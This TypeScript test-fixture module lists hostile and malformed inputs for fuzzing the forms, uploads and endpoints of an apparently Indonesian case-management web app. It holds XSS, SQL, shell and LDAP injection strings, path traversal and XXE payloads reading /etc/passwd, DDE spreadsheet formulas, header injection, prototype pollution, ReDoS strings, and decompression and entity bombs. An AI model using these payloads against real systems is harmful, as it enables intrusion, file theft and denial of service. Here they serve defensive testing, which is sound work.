/**
 * What people, programs and attackers send. Each is tried on every field and every form; the answer is a value, a named problem or a
 * refusal, never a fault and never somebody's markup on a page. Odd is not wrong: many of these names belong to someone.
 * NIKs name district 00 of regency 00, which no province has: they are nobody's.
 */
import { createHash } from 'node:crypto';
import { deflateSync, gzipSync } from 'node:zlib';
import { strToU8, zipSync } from 'fflate';
import { fileCorpus, flatPng, pngChunk } from './files.ts';

export type BadText = { group: 'names' | 'niks' | 'dates' | 'texts'; name: string; value: string };

function texts(group: BadText['group'], values: Record<string, string>): BadText[] {
  return Object.entries(values).map(([name, value]) => ({ group, name, value }));
}

const zalgo = [...'Zalgo'].map((letter) => letter + '\u0300\u0316\u0489'.repeat(60)).join('');

export const badNames = texts('names', {
  'an apostrophe': "O'Neil",
  'an apostrophe behind one letter': "D'Artagnan",
  'a curly apostrophe': 'Nur’aini',
  'one word': 'SUHARTO',
  'one letter': 'A',
  '200 characters': 'Aa '.repeat(66) + 'Aa',
  '201 characters': 'A'.repeat(201),
  titles: 'Hj. Siti Nurhaliza, S.Pd.',
  'only titles': 'Dr. H., S.H., M.Si.',
  'a father': 'Ahmad bin Abdullah',
  'a mother and no father': 'Siti binti Fulanah',
  'ends with bin': 'Ahmad bin',
  Balinese: 'I Gusti Ayu Made Rai',
  'a Batak marga': 'Situmorang Boru Simanjuntak',
  'a comma': 'Sitompul, Andi',
  Mandarin: '陳大文',
  Arabic: 'محمد علي',
  Javanese: 'ꦱꦸꦏꦂꦤ',
  composed: 'Jos\u00e9',
  decomposed: 'Jose\u0301',
  'a dotted capital I': 'İlhan',
  'a dotless i': 'Ilhan Işık ı',
  'a ligature': 'Aﬁﬀ',
  'a flood of marks': zalgo,
  'a family of emoji': 'Siti 👨‍👩‍👧‍👦',
  'reading direction turned': 'Siti\u202egnp.exe',
  'zero width': 'Si\u200bti\u200d Nur\ufeffhaliza',
  'only zero width': '\u200b\u200d\ufeff',
  'a blank letter': '\u3164',
  'a no-break space': 'Siti\u00a0Nurhaliza',
  'a soft hyphen': 'Nur\u00adhaliza',
  'a Cyrillic а': 'Siti Nurh\u0430liza',
  'full-width digits': 'Siti ２',
  'the word null': 'null',
  'the word undefined': 'undefined',
  'the word NaN': 'NaN',
  'the word true': 'true',
  'a dash': '-',
  'only spaces': '   ',
  nothing: '',
  'the end of a statement': "Robert'); DROP TABLE",
  'a template of JavaScript': '${7*7}',
  'a template of pages': '{{7*7}}',
  'a format of C': '%s%n%x',
  NUL: 'Siti\0Nurhaliza',
  'half a pair of surrogates': 'Siti\ud83d',
  'the other half': '\udc00Siti',
  'in capitals': 'MOHAMMAD YUSUF',
  'one letter less': 'MUHAMAD YUSUF',
  'a short form': 'MUH YUSUF',
  'a short form with its point': 'MUH. YUSUF',
  'the parts of a name turned round': 'YUSUF MOHAMMAD',
  'a nickname': 'Ucup',
  'marks left out': 'Jose',
  'another transliteration': 'Muhammad Yousouf',
  'an initial': 'M. YUSUF',
  'many aliases': `Ahmad ${Array.from({ length: 50 }, (_, index) => `als Nama${index}`).join(' ')}`,
});

const nik = (birth: string, { province = '16', serial = '0001' } = {}) => `${province}0000${birth}${serial}`;
const inDigits = (text: string, zero: number) =>
  [...text].map((digit) => String.fromCodePoint(zero + Number(digit))).join('');

export const badNiks = texts('niks', {
  '15 digits': nik('130685').slice(0, 15),
  '17 digits': `${nik('130685')}1`,
  letters: nik('130685').replace('0001', 'ABCD'),
  'spaces and dots': nik('130685').replace(/(.{4})(?=.)/g, '$1. '),
  'a leading zero': `0${nik('130685').slice(1)}`,
  'an apostrophe of a spreadsheet': `'${nik('130685')}`,
  'cut by a spreadsheet': '1,60000E+15',
  'cut by a spreadsheet, in English': '1.60000E+15',
  'day 00': nik('000685'),
  'day 32': nik('320685'),
  'day 40': nik('400685'),
  'day 71': nik('710585'),
  'day 72': nik('720585'),
  "a woman's day": nik('530685'),
  '29 February of a common year': nik('290223'),
  'month 13': nik('131385'),
  'month 00': nik('130085'),
  'province 00': nik('130685', { province: '00' }),
  'province 99': nik('130685', { province: '99' }),
  'serial 0000': nik('130685', { serial: '0000' }),
  'two centuries': nik('130624'),
  'a newborn': nik('120622'),
  'two leading zeros': `00${nik('130685').slice(2)}`,
  'full-width digits': inDigits(nik('130685'), 0xff10),
  'Arabic digits': inDigits(nik('130685'), 0x0660),
  'one digit sixteen times': '1'.repeat(16),
  none: '',
  'a foreigner without one': 'WNA',
  'a passport': 'A1234567',
  'a temporary number': 'SEMENTARA-001',
  '10,000 digits': '1'.repeat(10_000),
});

export const badDates = texts('dates', {
  '29 February of a common year': '2027-02-29',
  '29 February of a leap year': '2024-02-29',
  '31 April': '31-04-2022',
  '31 January': '31-01-2026',
  'day 0': '00-06-2022',
  'month 13': '13-13-2022',
  'the year 1': '0001-01-01',
  'the year 9999': '9999-12-31',
  'a year of five digits': '12022-06-13',
  'a year before Christ': '-000044-03-15',
  'two digits of year': '01/02/26',
  'the month first': '06/13/2022',
  'in words': '13 Juni 2022',
  'in the old spelling': '5 Nopember 1999',
  'with the wrong weekday': 'Minggu, 13 Juni 2022',
  'in the Islamic calendar': '12 Ramadan 1443 H',
  'in Islamic figures': '12-09-1443',
  'a serial day': '44725',
  'the serial day that never was': '60',
  'in the far future': '2199-12-31',
  'late in the evening in Jayapura': '2026-11-20T23:30:00+09:00',
  'the same moment in Jakarta': '2026-11-20T21:30:00+07:00',
  'eighteen tomorrow': '14-06-2004',
  'eighteen today': '13-06-2004',
  '118 years ago': '01-01-1904',
  'in the future by a day': '14-06-2022',
  'the leap day a year on': '28-02-2025',
  'a leap second alone': '23:59:60',
  'a leap second': '2016-12-31T23:59:60Z',
  'an hour that summer time skips': '2026-03-29T02:30:00',
  'hour 25': '2022-06-13T25:00:00',
  'tomorrow in words': 'besok',
  'full-width digits': '１３-０６-２０２２',
  'an instant in milliseconds': '1655078400000',
  nothing: '',
  'a date and a formula': '=DATE(2022,6,13)',
  'a line break': '13-06-2022\n14-06-2022',
  NUL: '13-06-2022\0',
});

export const badTexts = texts('texts', {
  'a script': '<script>alert(1)</script>',
  'a script that ends another': '</script><script>alert(1)</script>',
  'an image with a handler': '<img src=x onerror=alert(1)>',
  'a drawing with a handler': '<svg/onload=alert(1)>',
  'the end of an attribute': '" onmouseover="alert(1)',
  'the end of an attribute in single quotes': "' autofocus onfocus=alert(1) x='",
  'a frame': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'a style': '<style>@import "//example.org/x.css"</style>',
  'a comment of a page': '--><!--<script>alert(1)</script>',
  'a mutated tag': '<math><mtext></table></math><img src onerror=alert(1)>',
  'an encoded script': '&lt;script&gt;alert(1)&lt;/script&gt;',
  'a link of Markdown': '[klik](javascript:alert(1))',
  'a link of data': '[klik](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'a link in other letters': 'JaVaScRiPt:alert(1)',
  'a link with a tab': 'java\tscript:alert(1)',
  'a script behind its own end': '</textarea></title><script>alert(1)</script>',
  'an address that runs': 'javascript:alert(1)//http://example.org',
  'a formula with = in an old list': "=cmd|' /C calc'!A0",
  'a template': '{{constructor.constructor("alert(1)")()}}',
  'a template of Svelte': '{@html "<b>"}',
  'a formula with =': '=HYPERLINK("http://example.org?x="&A1,"klik")',
  'a formula with +': "+1+cmd|' /C calc'!A0",
  'a formula with -': '-1+1',
  'a formula with @': '@SUM(1+1)',
  'a formula behind a tab': '\t=1+1',
  'a formula behind a return': '\r=1+1',
  'a full-width formula': '＝1+1',
  'a line of a log': 'selesai\n2026-11-20 INFO admin masuk',
  'colours of a terminal': '\u001b[31mmerah\u001b[0m\u0007',
  'a header': 'x\r\nSet-Cookie: sesi=1',
  'the end of a statement': "' OR 1=1; DROP TABLE people.person; --",
  'wild cards': '%_%\\%',
  'one wild card': '%',
  'letters of Typst': '#eval("1+1") $x$ *tebal* @rujukan <label> \\',
  'a path': '../../../../etc/passwd',
  'an encoded path': '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  'a command': '$(id) `id` ; id | id && id',
  'an entity of XML': '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  'a query of LDAP': '*)(uid=*))(|(uid=*',
  '1 MB': 'panjang '.repeat(131_072),
  '10,000 characters without a space': 'a'.repeat(10_000),
  'slow for patterns of letters': `${'a'.repeat(50_000)}!`,
  'slow for patterns of spaces': `x${' '.repeat(50_000)}x`,
  'slow for patterns of dots': `${'.'.repeat(50_000)}@`,
  'slow for patterns of mail': `${'a@'.repeat(5000)}a`,
  'slow for patterns of digits': `${'1.'.repeat(25_000)}x`,
  'a flood of marks': zalgo,
  'reading direction turned': 'laporan\u202egpj.exe',
  'only zero width': '\u200b\u2060\ufeff',
  'other line ends': 'a\u2028b\u2029c\u0085d\u000be',
  'characters without meaning': '\ufffe\uffff\u{1ffff}',
  'private characters': '\ue000\u{f0000}',
  NUL: 'a\0b',
  'half a pair of surrogates': 'a\ud800b',
  'the name of a property': '__proto__',
  'another name of a property': 'constructor',
  'a method': 'toString',
  nothing: '',
  'only line breaks': '\n\n\r\n',
  'a number that is none': 'NaN',
  'a number without end': '1e309',
  'minus zero': '-0',
  'a number beyond exactness': '9007199254740993',
  'a number in hexadecimal': '0x1F',
  'a decimal comma': '1.234,5',
  'Arabic digits': '٣٦٦١',
});

/** Text for every field: each of the lists above on each type of field. */
export const badFieldTexts: readonly BadText[] = [...badNames, ...badNiks, ...badDates, ...badTexts];

export type BadRequest = {
  group: 'http';
  name: string;
  value: { method?: string; path?: string; headers?: Record<string, string>; body?: string | Uint8Array };
};

function requests(values: Record<string, BadRequest['value']>): BadRequest[] {
  return Object.entries(values).map(([name, value]) => ({ group: 'http', name, value }));
}

const form = { 'content-type': 'application/x-www-form-urlencoded' };
const json = { 'content-type': 'application/json' };
const nested = (levels: number) => '{"a":'.repeat(levels) + '1' + '}'.repeat(levels);

/** `path` continues the address of the page under test; a missing one leaves it alone. */
export const badRequests = requests({
  'text as a form': { method: 'POST', headers: { 'content-type': 'text/plain' }, body: 'name=Siti' },
  'XML as a form': { method: 'POST', headers: { 'content-type': 'application/xml' }, body: '<name>Siti</name>' },
  'no type at all': { method: 'POST', body: new Uint8Array([1, 2, 3]) },
  'JSON with the type of a form': { method: 'POST', headers: form, body: '{"name":"Siti"}' },
  'parts without their boundary': {
    method: 'POST',
    headers: { 'content-type': 'multipart/form-data' },
    body: '--x\r\n\r\n',
  },
  'parts that never end': {
    method: 'POST',
    headers: { 'content-type': 'multipart/form-data; boundary=x' },
    body: '--x\r\nContent-Disposition: form-data; name="name"\r\n\r\nSiti',
  },
  'one name twice': { method: 'POST', headers: form, body: 'name=Siti&name=Ahmad&name=Budi' },
  'one parameter twice': { path: '?page=1&page=2' },
  'the prototype as a field': { method: 'POST', headers: form, body: '__proto__[admin]=1&constructor=1&__proto__=1' },
  'the prototype in JSON': { method: 'POST', headers: json, body: '{"__proto__":{"admin":true},"constructor":1}' },
  'lists for text': { method: 'POST', headers: json, body: '{"name":["Siti"],"nik":{"$ne":null}}' },
  'a number without end': { method: 'POST', headers: json, body: '{"count":1e309}' },
  'minus zero': { method: 'POST', headers: json, body: '{"count":-0}' },
  'a number beyond exactness': { method: 'POST', headers: json, body: '{"id":9007199254740993}' },
  'twenty levels': { method: 'POST', headers: json, body: nested(20) },
  'twenty thousand levels': { method: 'POST', headers: json, body: nested(20_000) },
  'JSON cut off': { method: 'POST', headers: json, body: '{"name":"Si' },
  'a bomb of gzip': {
    method: 'POST',
    headers: { ...form, 'content-encoding': 'gzip' },
    body: gzipSync(Buffer.alloc(50_000_000, 'a')),
  },
  'ten thousand fields': {
    method: 'POST',
    headers: form,
    body: Array.from({ length: 10_000 }, (_, index) => `f${index}=1`).join('&'),
  },
  'no origin': { method: 'POST', headers: form, body: 'name=Siti' },
  'a foreign origin': { method: 'POST', headers: { ...form, origin: 'https://example.org' }, body: 'name=Siti' },
  'the origin null': { method: 'POST', headers: { ...form, origin: 'null' }, body: 'name=Siti' },
  'another method in a header': { method: 'POST', headers: { ...form, 'x-http-method-override': 'DELETE' }, body: '' },
  'another method in a field': { method: 'POST', headers: form, body: '_method=DELETE' },
  'a list of forwarders': { headers: { 'x-forwarded-for': '127.0.0.1, 10.0.0.1, ::1', 'x-real-ip': '127.0.0.1' } },
  'a foreign host': { headers: { 'x-forwarded-host': 'example.org', forwarded: 'host=example.org;for=127.0.0.1' } },
  'a path upwards': { path: '/../../../etc/passwd' },
  'an encoded path upwards': { path: '/%2e%2e%2f%2e%2e%2fetc/passwd' },
  'a path encoded twice': { path: '/%252e%252e%252fetc%252fpasswd' },
  'a path with NUL': { path: '/%00' },
  'a path of broken bytes': { path: '/%ff%fe%80' },
  'a path in capitals': { path: '/INDEX' },
  'a slash at the end': { path: '/' },
  'two slashes': { path: '//example.org/' },
  'a back slash': { path: '/\\example.org' },
  'only the head': { method: 'HEAD' },
  'the options': { method: 'OPTIONS' },
  'a trace': { method: 'TRACE' },
  'an unknown method': { method: 'BREW' },
  'a cookie of 20 KB': { headers: { cookie: `x=${'a'.repeat(20_000)}` } },
  'two hundred cookies': { headers: { cookie: Array.from({ length: 200 }, (_, index) => `c${index}=1`).join('; ') } },
  'a page before the first': { path: '?page=-1' },
  'a page far behind the last': { path: '?page=1000000000' },
  'a page that is none': { path: '?page=NaN' },
  'sorted by a hidden column': { path: '?sort=password_hash' },
  'sorted by a statement': { path: '?sort=name;drop%20table%20x' },
  'an address of 20 KB': { path: `?q=${'a'.repeat(20_000)}` },
  'a way back to elsewhere': { path: '?back=https://example.org/&next=//example.org' },
  'a language that is none': { headers: { 'accept-language': `${'id,'.repeat(500)}xx-${'y'.repeat(500)}` } },
});

/** A form sent again. The same key and body is answered with the first answer; everything else must not change what the first one did. */
export type BadReplay = {
  group: 'replays';
  name: string;
  value: {
    /** Submission ids in the order of sending; `same` repeats the first one. */
    keys: readonly string[];
    body: 'same' | 'other';
    user: 'same' | 'other' | 'signed_out';
    together?: boolean;
    /** What happens between the two. */
    meanwhile?:
      | 'restored_from_backup'
      | 'key_forgotten'
      | 'session_revoked'
      | 'subject_ended'
      | 'subject_joined'
      | 'subject_transferred'
      | 'approved_by_other'
      | 'annulled'
      | 'step_skipped'
      | 'rights_lost';
  };
};

function replays(values: Record<string, BadReplay['value']>): BadReplay[] {
  return Object.entries(values).map(([name, value]) => ({ group: 'replays', name, value }));
}

const key = '01934f2a-7c1e-7b3d-8a4f-0c5d6e7f8091';
const again = [key, key];

export const badReplays = replays({
  'sent twice by a double click': { keys: again, body: 'same', user: 'same', together: true },
  'sent again with the back button': { keys: again, body: 'same', user: 'same' },
  'the same key with another body': { keys: again, body: 'other', user: 'same' },
  'the same key from another user': { keys: again, body: 'same', user: 'other' },
  'the same key from another user with another body': { keys: again, body: 'other', user: 'other' },
  'no key': { keys: ['', ''], body: 'same', user: 'same' },
  'a key of 300 characters': { keys: ['k'.repeat(300), 'k'.repeat(300)], body: 'same', user: 'same' },
  'a key that is no id': { keys: ["1' or '1'='1", '../..'], body: 'same', user: 'same' },
  'a key in capitals': { keys: [key, key.toUpperCase()], body: 'same', user: 'same' },
  'a key from before the clock was set': {
    keys: ['00000000-0000-7000-8000-000000000001', '00000000-0000-7000-8000-000000000001'],
    body: 'same',
    user: 'same',
  },
  'a key from the far future': {
    keys: ['ffffffff-ffff-7fff-bfff-ffffffffffff', 'ffffffff-ffff-7fff-bfff-ffffffffffff'],
    body: 'same',
    user: 'same',
  },
  'after the key was forgotten': { keys: again, body: 'same', user: 'same', meanwhile: 'key_forgotten' },
  'after a restore from backup': { keys: again, body: 'same', user: 'same', meanwhile: 'restored_from_backup' },
  'after signing out': { keys: again, body: 'same', user: 'signed_out' },
  'after the session was ended elsewhere': { keys: again, body: 'same', user: 'same', meanwhile: 'session_revoked' },
  'after rights were lost': { keys: again, body: 'same', user: 'same', meanwhile: 'rights_lost' },
  'two approvers at once': {
    keys: [key, '01934f2a-7c1e-7b3d-8a4f-0c5d6e7f8092'],
    body: 'same',
    user: 'other',
    together: true,
  },
  'approved while it is annulled': {
    keys: [key, '01934f2a-7c1e-7b3d-8a4f-0c5d6e7f8093'],
    body: 'other',
    user: 'other',
    together: true,
    meanwhile: 'annulled',
  },
  'decided by someone else meanwhile': {
    keys: [key, '01934f2a-7c1e-7b3d-8a4f-0c5d6e7f8094'],
    body: 'other',
    user: 'same',
    meanwhile: 'approved_by_other',
  },
  'a step left out': { keys: again, body: 'same', user: 'same', meanwhile: 'step_skipped' },
  'after supervision ended': { keys: again, body: 'same', user: 'same', meanwhile: 'subject_ended' },
  'after the person was joined with another': { keys: again, body: 'same', user: 'same', meanwhile: 'subject_joined' },
  'after the client was transferred': { keys: again, body: 'same', user: 'same', meanwhile: 'subject_transferred' },
});

/** `photo` and `paper` go through the store of files, `table` through the import; `name` is what the browser calls it. */
export type BadFile = {
  group: 'files';
  name: string;
  fileName: string;
  mediaType: string;
  kind: 'photo' | 'paper' | 'table';
  value: () => Buffer | Promise<Buffer>;
};

const tiny = () => flatPng(8, 8);
const named = (name: string, fileName: string, mediaType = 'image/png'): BadFile => ({
  group: 'files',
  name,
  fileName,
  mediaType,
  kind: 'photo',
  value: tiny,
});

/** Names are never used: the house gives each file its own. */
export const badFileNames: readonly BadFile[] = [
  named('a double extension', 'foto.php.png'),
  named('a program behind an extension', 'foto.png.exe'),
  named('reading direction turned', 'foto\u202egnp.exe'),
  named('a name of 300 bytes', `${'é'.repeat(150)}.png`),
  named('a device of Windows', 'CON'),
  named('a device with an extension', 'nul.png'),
  named('a header in the name', 'a\r\nSet-Cookie: sesi=1.png'),
  named('a path upwards', '../../../etc/cron.d/x.png'),
  named('a path of Windows', '..\\..\\windows\\x.png'),
  named('a name of a hidden file', '.htaccess'),
  named('no name', ''),
  named('only spaces', '   '),
  named('NUL in the name', 'foto.png\0.php'),
  named('a quote in the name', 'a"; filename="b.html'),
  named('markup in the name', '<img src=x onerror=alert(1)>.png'),
  named('the wrong type', 'foto.png', 'text/html'),
  named('a type that is none', 'foto.png', 'x/../y'),
];

const sheetOf = (rows: string, more: Record<string, string> = {}) =>
  Buffer.from(
    zipSync(
      Object.fromEntries(
        Object.entries({
          'xl/workbook.xml':
            '<workbook xmlns:r="r"><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets></workbook>',
          'xl/_rels/workbook.xml.rels':
            '<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
          'xl/worksheets/sheet1.xml': `<worksheet><sheetData>${rows}</sheetData></worksheet>`,
          ...more,
        }).map(([name, xml]) => [name, strToU8(xml)]),
      ),
    ),
  );

/** Declares one size and unpacks to another: what an archive says about itself is changed afterwards. */
function lyingArchive(): Buffer {
  const bytes = sheetOf(`<row><c t="inlineStr"><is><t>${'0'.repeat(150_000_000)}</t></is></c></row>`);
  for (
    let at = bytes.indexOf('PK\u0001\u0002', 0, 'latin1');
    at >= 0;
    at = bytes.indexOf('PK\u0001\u0002', at + 4, 'latin1')
  )
    bytes.writeUInt32LE(100, at + 24);
  return bytes;
}

const excel = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const table = (name: string, fileName: string, value: BadFile['value']): BadFile => ({
  group: 'files',
  name,
  fileName,
  mediaType: fileName.endsWith('.csv') ? 'text/csv' : excel,
  kind: 'table',
  value,
});

export const badTables: readonly BadFile[] = [
  table('an empty file', 'klien.xlsx', () => Buffer.alloc(0)),
  table('an empty archive', 'klien.xlsx', () => Buffer.from('504b0506000000000000000000000000000000000000', 'hex')),
  table('half a workbook', 'klien.xlsx', () => sheetOf('<row><c><v>1</v></c></row>').subarray(0, 300)),
  table('a bomb', 'klien.xlsx', () =>
    sheetOf(`<row><c t="inlineStr"><is><t>${'0'.repeat(150_000_000)}</t></is></c></row>`),
  ),
  table('a bomb that lies about its size', 'klien.xlsx', lyingArchive),
  table('a bomb of entities', 'klien.xlsx', () =>
    sheetOf('', {
      'xl/worksheets/sheet1.xml':
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><worksheet><sheetData><row><c t="inlineStr"><is><t>&b;</t></is></c></row></sheetData></worksheet>',
    }),
  ),
  table('an entity that reads a file', 'klien.xlsx', () =>
    sheetOf('', {
      'xl/worksheets/sheet1.xml':
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet><sheetData><row><c t="inlineStr"><is><t>&a;</t></is></c></row></sheetData></worksheet>',
    }),
  ),
  table('the last row and column of Excel', 'klien.xlsx', () =>
    sheetOf('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
  ),
  table('a row before the first', 'klien.xlsx', () => sheetOf('<row r="-1"><c r="A-1"><v>1</v></c></row>')),
  table('a string that is not there', 'klien.xlsx', () => sheetOf('<row><c t="s"><v>99999</v></c></row>')),
  table('a part outside the archive', 'klien.xlsx', () =>
    sheetOf('', {
      'xl/_rels/workbook.xml.rels':
        '<Relationships><Relationship Id="rId1" Type="x/worksheet" Target="../../../../etc/passwd"/></Relationships>',
    }),
  ),
  table('a part on another server', 'klien.xlsx', () =>
    sheetOf('', {
      'xl/_rels/workbook.xml.rels':
        '<Relationships><Relationship Id="rId1" Type="x/worksheet" TargetMode="External" Target="http://example.org/worksheets/a.xml"/></Relationships>',
    }),
  ),
  table('two thousand sheets', 'klien.xlsx', () =>
    sheetOf('', {
      'xl/workbook.xml': `<workbook xmlns:r="r"><sheets>${'<sheet name="A" sheetId="1" r:id="rId1"/>'.repeat(2000)}</sheets></workbook>`,
    }),
  ),
  table('a formula that fetches', 'klien.xlsx', () =>
    sheetOf('<row><c t="str"><f>WEBSERVICE("http://example.org")</f><v>=cmd|x</v></c></row>'),
  ),
  table('a workbook of Excel 97', 'klien.xls', () =>
    Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2000)]),
  ),
  table('a page saved as a workbook', 'klien.xls', () =>
    Buffer.from('<html><table><tr><td>1</td></tr></table></html>'),
  ),
  table('a photo named as a table', 'klien.csv', tiny),
  table('a CSV of zeros', 'klien.csv', () => Buffer.alloc(5000)),
  table('a CSV with NUL in it', 'klien.csv', () => Buffer.from('nama;nik\nSiti\0;1\n')),
  table('a CSV whose quote never ends', 'klien.csv', () => Buffer.from(`nama\n"${'a'.repeat(100_000)}`)),
  table('a CSV of separators', 'klien.csv', () => Buffer.from(';'.repeat(100_000))),
  table('a CSV of 200,000 lines', 'klien.csv', () => Buffer.from('a;b\n'.repeat(200_000))),
  table('a CSV of formulas', 'klien.csv', () => Buffer.from("nama\n=1+1\n+1\n-1\n@x\n'=1\n")),
  table('a CSV in half an encoding', 'klien.csv', () => Buffer.from('fffe61', 'hex')),
];

const colourBomb = () =>
  flatPng(8, 8, [pngChunk('iCCP', Buffer.concat([Buffer.from('x\0\0'), deflateSync(Buffer.alloc(50_000_000))]))]);

export const badFiles: readonly BadFile[] = [
  ...fileCorpus.map(({ name, use, make }): BadFile => ({
    group: 'files',
    name,
    fileName: use === 'face' ? 'foto.jpg' : 'surat.pdf',
    mediaType: use === 'face' ? 'image/jpeg' : 'application/pdf',
    kind: use === 'face' ? 'photo' : 'paper',
    value: make,
  })),
  {
    group: 'files',
    name: 'a colour profile that is a bomb',
    fileName: 'foto.png',
    mediaType: 'image/png',
    kind: 'photo',
    value: colourBomb,
  },
  ...badFileNames,
  ...badTables,
];

/** Tables of which the first bytes say that they are none; what else is wrong with one its reader finds, after it was brought. */
const noTables: readonly string[] = [
  'an empty file',
  'a workbook of Excel 97',
  'a photo named as a table',
  'a CSV of zeros',
];
const refusedFiles = new Set(fileCorpus.filter(({ expect }) => expect === 'refused').map(({ name }) => name));

/** The files that a field of this kind must refuse at once. */
export const filesToRefuse = (kind: BadFile['kind']): BadFile[] =>
  badFiles.filter((one) => one.kind === kind && (kind === 'table' ? noTables : [...refusedFiles]).includes(one.name));

/** More than anyone may send, without keeping it: pieces of 1 MB up to the size. For 2 GB, or a sender who waits between pieces. */
export function* endlessFile(bytes: number): Generator<Buffer> {
  const piece = Buffer.alloc(1_000_000, createHash('sha256').update('simpul').digest());
  for (let sent = 0; sent < bytes; sent += piece.length) yield piece.subarray(0, Math.min(piece.length, bytes - sent));
}

export type BadInput = BadText | BadRequest | BadReplay | BadFile;
export const badInputs: readonly BadInput[] = [...badFieldTexts, ...badRequests, ...badReplays, ...badFiles];
